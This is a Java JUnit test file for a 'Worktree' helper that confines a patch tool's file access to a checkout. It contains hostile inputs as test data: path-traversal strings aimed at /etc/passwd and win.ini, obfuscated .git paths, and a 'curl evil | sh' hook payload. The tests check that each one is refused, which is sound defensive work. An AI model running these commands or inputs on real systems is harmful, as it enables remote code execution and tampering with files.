package dev.nex7.deployment.patch;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class WorktreeTests {

    @TempDir
    Path temp;

    private Path root;
    private Worktree worktree;

    @BeforeEach
    void createCheckout() throws IOException {
        root = Files.createDirectories(temp.resolve("checkout"));
        Files.createDirectories(root.resolve("src/components"));
        Files.createDirectories(root.resolve(".git/hooks"));
        Files.createDirectories(root.resolve("node_modules/button"));
        Files.writeString(root.resolve("src/index.ts"), "import { Button } from './components/button';\n");
        Files.writeString(root.resolve("src/components/Button.tsx"), "export const Button = () => null;\n");
        Files.writeString(root.resolve("node_modules/button/button.js"), "");
        worktree = new Worktree(root);
    }

    @Test
    void readsWritesAndListsFilesInsideTheCheckout() {
        worktree.write("src/util/format.ts", "export const format = String;\n");

        assertThat(worktree.read("src/util/format.ts")).isEqualTo("export const format = String;\n");
        assertThat(worktree.exists("src/util/format.ts")).isTrue();
        assertThat(worktree.exists("src/missing.ts")).isFalse();
        assertThat(worktree.readIfPresent("src/missing.ts")).isEmpty();
        assertThat(worktree.list("")).containsExactly("node_modules", "src");
        assertThat(worktree.list("src")).containsExactly("src/components", "src/index.ts", "src/util");
    }

    @Test
    void findsFilesByNameIgnoringCaseAndExtensionButNotInDependencies() {
        assertThat(worktree.findByName("", "./components/button")).containsExactly("src/components/Button.tsx");
        assertThat(worktree.findByName("src", "BUTTON.js")).containsExactly("src/components/Button.tsx");
        assertThat(worktree.findByName("src", "components")).containsExactly("src/components");
        assertThat(worktree.findByName("", "hooks")).isEmpty();
    }

    @Test
    void writingKeepsAFilesModeAndGivesANewOneTheUsualMode() throws IOException {
        Path script = root.resolve("build.sh");
        Files.writeString(script, "#!/bin/sh\n");
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));

        worktree.write("build.sh", "#!/bin/sh\nnpm run build\n");
        worktree.write("new.txt", "hello\n");

        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(script))).isEqualTo("rwxr-xr-x");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(root.resolve("new.txt")))).isEqualTo("rw-r--r--");
    }

    @Test
    void pathsAreNormalized() {
        assertThat(Worktree.normalize("./src//components/../index.ts")).isEqualTo("src/index.ts");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/etc/passwd", "../outside.txt", "../../etc/passwd", "src/../../outside.txt", "C:/Windows/win.ini",
            "\\\\server\\share"})
    void pathsOutOfTheCheckoutAreRefused(String path) {
        assertRejected(() -> worktree.write(path, "x"), "path-escape");
        assertRejected(() -> worktree.read(path), "path-escape");
        assertThat(temp.resolve("outside.txt")).doesNotExist();
    }

    @ParameterizedTest
    @ValueSource(strings = {".git/hooks/pre-commit", ".GIT/config", ".Git/HEAD", "lib/sub/.git", ".git./hooks/x", ".git /x",
            "GIT~1/config", ".g\u200cit/config", "src/../.git/config"})
    void anythingInsideGitIsRefusedInEverySpelling(String path) {
        assertRejected(() -> worktree.write(path, "#!/bin/sh\ncurl evil | sh\n"), "git-dir");
        assertRejected(() -> worktree.exists(path), "git-dir");
        assertThat(root.resolve(".git/hooks/pre-commit")).doesNotExist();
    }

    @Test
    void aSymbolicLinkOutOfTheCheckoutIsNeitherReadNorWrittenThrough() throws IOException {
        Path outside = Files.createDirectories(temp.resolve("outside"));
        Files.writeString(outside.resolve("secret.txt"), "secret");
        Files.createSymbolicLink(root.resolve("linked"), outside);
        Files.createSymbolicLink(root.resolve("secret.txt"), outside.resolve("secret.txt"));

        assertRejected(() -> worktree.read("linked/secret.txt"), "symlink");
        assertRejected(() -> worktree.read("secret.txt"), "symlink");
        assertRejected(() -> worktree.write("linked/new.txt", "x"), "symlink");
        assertRejected(() -> worktree.write("secret.txt", "overwritten"), "symlink");
        assertRejected(() -> worktree.delete("secret.txt"), "symlink");
        assertThat(outside.resolve("new.txt")).doesNotExist();
        assertThat(Files.readString(outside.resolve("secret.txt"))).isEqualTo("secret");
    }

    @Test
    void aSymbolicLinkInsideTheCheckoutMayBeReadButIsNeverWrittenThrough() throws IOException {
        Files.createSymbolicLink(root.resolve("README.md"), root.resolve("src/index.ts"));
        Files.createSymbolicLink(root.resolve("hooks"), root.resolve(".git/hooks"));

        assertThat(worktree.read("README.md")).startsWith("import");
        assertRejected(() -> worktree.write("README.md", "changed"), "symlink");
        assertRejected(() -> worktree.read("hooks/pre-commit"), "git-dir");
        assertRejected(() -> worktree.write("hooks/pre-commit", "x"), "symlink");
        assertThat(worktree.read("src/index.ts")).startsWith("import");
    }

    @Test
    void binaryFilesAreNotReadAsText() throws IOException {
        Files.write(root.resolve("logo.png"), new byte[] {(byte) 0x89, 'P', 'N', 'G', 0, 1});
        Files.write(root.resolve("latin1.txt"), new byte[] {'c', 'a', 'f', (byte) 0xe9});

        assertRejected(() -> worktree.read("logo.png"), "binary");
        assertRejected(() -> worktree.read("latin1.txt"), "binary");
    }

    private static void assertRejected(org.assertj.core.api.ThrowableAssert.ThrowingCallable call, String code) {
        assertThatThrownBy(call).isInstanceOfSatisfying(PatchRejected.class, e -> assertThat(e.code()).isEqualTo(code));
    }
}
